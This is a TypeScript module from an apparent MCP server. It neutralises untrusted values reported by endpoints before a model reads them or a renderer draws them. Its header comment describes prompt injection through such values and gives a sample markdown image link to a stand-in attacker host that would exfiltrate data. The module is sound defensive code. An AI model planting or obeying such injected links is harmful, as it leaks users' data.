import { HIDDEN_CHARACTER_CLASSES } from '../reported-characters.js';

/**
 * Values reported by endpoints (hostname, OS, version, client name, agent id…) are untrusted data:
 * an endpoint can report a "hostname" with line breaks, bidi overrides, a paragraph addressed to
 * the assistant, or markdown (`![x](https://evil.example/p.png?d=…)`, `<img …>`, a link). In any
 * text a model reads, or a host renders as markdown, they are inert: in a summary each value is a
 * code span (quoted), in the JSON copy the characters that start markup are JSON escapes
 * (inertJson); either way escaped so they can never form a line, hide or reorder text, or pass for
 * the service's own words, and no CommonMark or GFM renderer makes them a link, an image, an
 * autolink, emphasis or HTML (the JSON copy is drawn exactly as its text). `structuredContent` keeps the exact values (up to MAX_REPORTED_CHARACTERS,
 * see lib/mcp/limits.ts).
 */

/** How many characters (code points) of one reported value a text shows before it is cut. */
export const TEXT_VALUE_CHARACTERS = 120;

/**
 * Code points escaped in text: the hidden characters the MCP App view marks too
 * (lib/reported-characters.ts), and the quote and backslash themselves.
 */
const UNSAFE = new RegExp(`[${HIDDEN_CHARACTER_CLASSES}"\\\\]`, 'gu');

/** The same, less the quote: a code span needs no quote escaped, and shows the value as it is. */
const UNSAFE_IN_CODE = new RegExp(`[${HIDDEN_CHARACTER_CLASSES}\\\\]`, 'gu');

const SHORT_ESCAPES: Record<string, string> = { '\n': '\\n', '\r': '\\r', '\t': '\\t', '"': '\\"', '\\': '\\\\' };

function escapeCodePoint(ch: string): string {
  return SHORT_ESCAPES[ch] ?? `\\u{${(ch.codePointAt(0) ?? 0).toString(16).toUpperCase().padStart(4, '0')}}`;
}

function cutAndEscape(value: string, max: number, unsafe = UNSAFE): { text: string; total: number | undefined } {
  let shown = value;
  let total: number | undefined;
  // Cheap bound first: a string of at most `max` UTF-16 units has at most `max` code points.
  if (value.length > max) {
    const points = Array.from(value);
    if (points.length > max) {
      total = points.length;
      shown = points.slice(0, max).join('');
    }
  }
  return { text: shown.replace(unsafe, escapeCodePoint), total };
}

const cutMarker = (total: number): string => `…[cut: ${total} characters in all]`;

/**
 * A reported value as text, without quotes: every unsafe code point written as a visible escape
 * (`\n`, `\u{202E}`, `\u{200B}`), and a value longer than `max` characters cut there, ending in
 * `…[cut: N characters in all]`. The result has no line break and no invisible character, and at
 * most 10 × `max` + 40 characters whatever the value. For the JSON text copy of a result.
 */
export function escapeReported(value: string, max = TEXT_VALUE_CHARACTERS): string {
  const { text, total } = cutAndEscape(value, max);
  return total === undefined ? text : `${text}${cutMarker(total)}`;
}

/**
 * `text` as a CommonMark code span: fenced by one backtick more than its longest run of backticks
 * (so nothing inside can close it), with a space inside each fence when it starts or ends with a
 * backtick or a space (CommonMark takes one such space off each side). Inside a code span no
 * markdown is read: no link, image, autolink, emphasis or HTML, in any CommonMark or GFM renderer.
 */
function codeSpan(text: string): string {
  if (text === '') return '` `';
  const longest = Math.max(0, ...(text.match(/`+/g) ?? []).map((run) => run.length));
  const fence = '`'.repeat(longest + 1);
  const pad = /^[` ]|[` ]$/.test(text) ? ' ' : '';
  return `${fence}${pad}${text}${pad}${fence}`;
}

/**
 * A reported value quoted for a summary, as a code span (codeSpan), escaped and cut as
 * escapeReported does (quotes kept as they are, the cut marker after the span): one line, nothing
 * invisible, no markup.
 */
export function quoted(value: string, max = TEXT_VALUE_CHARACTERS): string {
  const { text, total } = cutAndEscape(value, max, UNSAFE_IN_CODE);
  return total === undefined ? codeSpan(text) : `${codeSpan(text)}${cutMarker(total)}`;
}

/** The escapes escapeCodePoint writes: `\u{202E}`, or a short one (`\n`, `\"`, `\\`). */
const WRITTEN_ESCAPE = /\\(?:u\{([0-9A-F]{4,6})\}|([nrt"\\]))/g;
const SHORT_UNESCAPES: Record<string, string> = { n: '\n', r: '\r', t: '\t', '"': '"', '\\': '\\' };

/** The text of escapeReported (or of a code span of `quoted`) read back to the value it shows: the inverse of the escapes. */
export function unescapeReported(text: string): string {
  return text.replace(WRITTEN_ESCAPE, (written, hex: string | undefined, short: string | undefined) => {
    if (short !== undefined) return SHORT_UNESCAPES[short] ?? written;
    const code = Number.parseInt(hex ?? '', 16);
    return code <= 0x10ffff ? String.fromCodePoint(code) : written;
  });
}

/**
 * A code span as codeSpan writes it: a run of backticks that no backtick touches, what it holds,
 * and a run of as many backticks that no backtick touches (CommonMark's rule, so a value holding
 * shorter or longer runs stays inside).
 */
const CODE_SPAN = /(?<!`)(`+)(?!`)([\s\S]*?)(?<!`)\1(?!`)/g;

/**
 * A text of the service's (a summary, a failure sentence) cut into its own words and the reported
 * values it quotes (`quoted`), each read back to the value it shows (`{ quoted: value }`): how a
 * reader that does not render markdown (the MCP App view) shows such a text without backticks.
 * A value cut by `quoted` comes back as its first characters, the cut marker staying in the words.
 */
export function splitQuoted(text: string): Array<string | { quoted: string }> {
  const parts: Array<string | { quoted: string }> = [];
  let from = 0;
  for (const match of text.matchAll(CODE_SPAN)) {
    if (match.index > from) parts.push(text.slice(from, match.index));
    const inside = match[2] ?? '';
    // codeSpan pads both ends with one space when the value starts or ends with a space or a backtick (or is empty).
    const padded = inside.startsWith(' ') && inside.endsWith(' ');
    parts.push({ quoted: unescapeReported(padded ? inside.slice(1, -1) : inside) });
    from = match.index + match[0].length;
  }
  if (from < text.length) parts.push(text.slice(from));
  return parts;
}

/** JSON string literals as JSON.stringify writes them (no raw quote or backslash inside but as an escape). */
const JSON_STRING = /"(?:[^"\\]|\\.)*"/g;
/**
 * In a JSON string literal, what a CommonMark or GFM renderer would not draw as itself: the `\"`
 * and `\\` escapes (a renderer reads a backslash before punctuation as its own escape and drops
 * it), and the characters that start markup: emphasis and strong (`*`, `_`), strikethrough (`~`),
 * code (backtick), links, images and footnotes (`[`, `]`), HTML and autolinks (`<`, `>`), entity
 * references (`&`), tables (`|`), email autolinks (`@`), and the `:` of `://` and the `.` of
 * `www.` (GFM's URL autolinks). Other escapes (`\n`, `\u0001`) are a backslash before a letter,
 * which no renderer takes for its own. Structure outside strings is never touched: it is `{`,
 * `}`, `[`, `]`, `:`, `,`, digits and the words true, false and null, on one line that starts with
 * `{`, so it can start no block (heading, list, quote, code block, table) and form no inline.
 */
const NOT_DRAWN_AS_ITSELF = /\\u[0-9a-fA-F]{4}|\\(["\\])|\\.|[*_~`[\]<>&|@]|:(?=\/\/)|(?<=[Ww]{3})\./g;

const jsonEscape = (ch: string): string => `\\u${ch.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}`;

/** A JSON string literal with what is between its quotes rewritten as NOT_DRAWN_AS_ITSELF says. */
function inertLiteral(literal: string): string {
  const inside = literal.slice(1, -1).replace(NOT_DRAWN_AS_ITSELF, (match, escaped: string | undefined) => {
    if (escaped !== undefined) return jsonEscape(escaped);
    // Any other escape (`\n`, `\u0001`) stays as it is.
    return match.length > 1 ? match : jsonEscape(match);
  });
  return `"${inside}"`;
}

/**
 * `value` as JSON whose text every CommonMark or GFM renderer draws exactly as it is, as one
 * paragraph of text: JSON.stringify's text with each character of NOT_DRAWN_AS_ITSELF inside a
 * string written as a JSON `\uXXXX` escape (`_` as `\u005F`, `"` as `\u0022`). It parses back to
 * exactly `value`.
 */
export function inertJson(value: unknown): string {
  return JSON.stringify(value).replace(JSON_STRING, inertLiteral);
}

/**
 * A reported value as a tool result's `structuredContent` carries it: exact up to `max` characters
 * (code points), else its first `max` ending in `…[cut: N characters in all]` (lib/mcp/limits.ts
 * MAX_REPORTED_CHARACTERS says why).
 */
export function capReported(value: string, max: number): string {
  if (value.length <= max) return value;
  const points = Array.from(value);
  return points.length <= max ? value : `${points.slice(0, max).join('')}${cutMarker(points.length)}`;
}
